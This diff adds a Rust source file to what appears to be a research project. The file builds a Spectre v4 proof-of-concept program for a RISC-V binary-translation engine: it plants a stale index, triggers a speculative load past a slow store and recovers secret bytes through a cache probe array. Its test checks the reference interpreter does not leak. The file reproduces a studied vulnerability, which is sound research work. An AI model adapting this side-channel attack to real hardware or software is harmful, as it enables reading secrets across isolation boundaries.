@@ -1,0 +1,150 @@
+//! Spectre v4 analogue: memory-dependency speculation through the Memory
+//! Conflict Buffer.
+//!
+//! The victim follows the paper's Figure 2: a store whose address takes a
+//! long time to compute is followed by a load from the same buffer. The DBT
+//! engine cannot disambiguate the two, so with memory speculation enabled it
+//! hoists the load (and its dependent accesses) above the store. The
+//! attacker plants a malicious index in `addr_buf[0]` beforehand; the store
+//! architecturally overwrites it with a benign index, but the speculative
+//! load still sees the stale malicious value, reads the secret and encodes
+//! it into the probe array before the Memory Conflict Buffer detects the
+//! conflict and rolls the block back.
+
+use crate::probe::{alloc_probe, emit_flush_probe, emit_probe_loop, PROBE_SHIFT};
+use dbt_riscv::{AsmError, Program, Reg};
+
+/// Warm-up calls so the victim block is re-translated as an optimised
+/// (speculating) superblock before the attack iteration.
+pub const WARMUP_CALLS: i64 = 24;
+
+/// Size of the victim's legitimate buffer.
+pub const BUFFER_SIZE: u64 = 16;
+
+/// Builds the complete Spectre v4 attack program around `secret`.
+///
+/// The recovered bytes are written to the guest buffer named `"recovered"`.
+///
+/// # Errors
+///
+/// Returns an [`AsmError`] if the generated program fails to assemble.
+pub fn build(secret: &[u8]) -> Result<Program, AsmError> {
+    let mut asm = dbt_riscv::Assembler::new();
+    let addr_buf = asm.alloc_data("addr_buf", 8 * 8);
+    let buffer = asm.alloc_data("buffer", BUFFER_SIZE);
+    let secret_ref = asm.alloc_data_init("secret", secret);
+    let recovered = asm.alloc_data("recovered", secret.len() as u64);
+    let probe = alloc_probe(&mut asm);
+    let secret_len = secret.len() as i64;
+
+    let victim = asm.new_label();
+    let main = asm.new_label();
+    asm.jump(main);
+
+    // ------------------------------------------------------------------
+    // victim(A0 = slot * DIVISOR, A1 = benign index)
+    //
+    //   slot   = A0 / DIVISOR / DIVISOR2   (long dependency chain)
+    //   addr_buf[slot] = A1                (slow store, checks the MCB)
+    //   a = addr_buf[0]                    (hoisted above the store)
+    //   b = buffer[a]                      (speculative, poisoned address)
+    //   c = probe[b << PROBE_SHIFT]        (speculative, poisoned address)
+    // ------------------------------------------------------------------
+    asm.bind(victim);
+    asm.li(Reg::T5, 7);
+    asm.div(Reg::T0, Reg::A0, Reg::T5); // slow…
+    asm.li(Reg::T5, 9);
+    asm.div(Reg::T0, Reg::T0, Reg::T5); // …slower (two dependent divisions)
+    asm.slli(Reg::T0, Reg::T0, 3); // slot * 8
+    asm.la(Reg::T6, addr_buf);
+    asm.add(Reg::T0, Reg::T6, Reg::T0);
+    asm.sd(Reg::A1, Reg::T0, 0); // the slow store
+    asm.ld(Reg::T1, Reg::T6, 0); // load addr_buf[0] — bypasses the store
+    asm.la(Reg::T2, buffer);
+    asm.add(Reg::T2, Reg::T2, Reg::T1);
+    asm.lbu(Reg::T3, Reg::T2, 0); // buffer[a]
+    asm.slli(Reg::T3, Reg::T3, PROBE_SHIFT);
+    asm.la(Reg::T4, probe);
+    asm.add(Reg::T4, Reg::T4, Reg::T3);
+    asm.lbu(Reg::T4, Reg::T4, 0); // probe[b << shift]
+    asm.ret();
+
+    // ------------------------------------------------------------------
+    // main: per secret byte — warm up, plant the malicious index, flush,
+    // attack, probe, record.
+    // ------------------------------------------------------------------
+    asm.bind(main);
+    asm.li(Reg::S0, 0); // secret byte index
+    asm.li(Reg::S1, secret_len);
+    let outer = asm.new_label();
+    asm.bind(outer);
+
+    // Warm-up: benign calls (addr_buf[0] already holds a benign index) so
+    // the victim becomes hot and gets its optimised, speculating
+    // translation.
+    {
+        let head = asm.new_label();
+        // addr_buf[0] = 3 (benign, in bounds).
+        asm.la(Reg::T0, addr_buf);
+        asm.li(Reg::T1, 3);
+        asm.sd(Reg::T1, Reg::T0, 0);
+        asm.li(Reg::S6, 0);
+        asm.bind(head);
+        asm.li(Reg::A0, 0); // slot 0
+        asm.li(Reg::A1, 3); // benign index
+        asm.call(victim);
+        asm.addi(Reg::S6, Reg::S6, 1);
+        asm.li(Reg::T0, WARMUP_CALLS);
+        asm.blt(Reg::S6, Reg::T0, head);
+    }
+
+    // Plant the malicious index: addr_buf[0] = &secret + s - &buffer.
+    asm.li(Reg::T0, secret_ref.addr() as i64);
+    asm.add(Reg::T0, Reg::T0, Reg::S0);
+    asm.li(Reg::T1, buffer.addr() as i64);
+    asm.sub(Reg::T2, Reg::T0, Reg::T1);
+    asm.la(Reg::T0, addr_buf);
+    asm.sd(Reg::T2, Reg::T0, 0);
+
+    // Flush the probe array.
+    emit_flush_probe(&mut asm, probe);
+
+    // The attack call: architecturally addr_buf[0] becomes 3 again before
+    // the dependent loads run, but the speculative schedule reads the stale
+    // malicious index first.
+    asm.li(Reg::A0, 0);
+    asm.li(Reg::A1, 3);
+    asm.call(victim);
+
+    // Reload the probe array and record the fastest entry.
+    emit_probe_loop(&mut asm, probe);
+    asm.la(Reg::T0, recovered);
+    asm.add(Reg::T0, Reg::T0, Reg::S0);
+    asm.sb(Reg::S4, Reg::T0, 0);
+
+    asm.addi(Reg::S0, Reg::S0, 1);
+    asm.blt(Reg::S0, Reg::S1, outer);
+    asm.ecall();
+
+    asm.assemble()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use dbt_riscv::{ExitReason, Interpreter};
+
+    #[test]
+    fn program_assembles_and_terminates_on_the_reference_machine() {
+        let program = build(b"K").unwrap();
+        let mut interp = Interpreter::new(&program);
+        assert_eq!(interp.run(50_000_000).unwrap(), ExitReason::Ecall);
+        let recovered = interp
+            .memory()
+            .load_u8(program.symbol("recovered").unwrap())
+            .unwrap();
+        // Architecturally the stale index is overwritten before use, so the
+        // reference machine must not report the secret.
+        assert_ne!(recovered, b'K');
+    }
+}
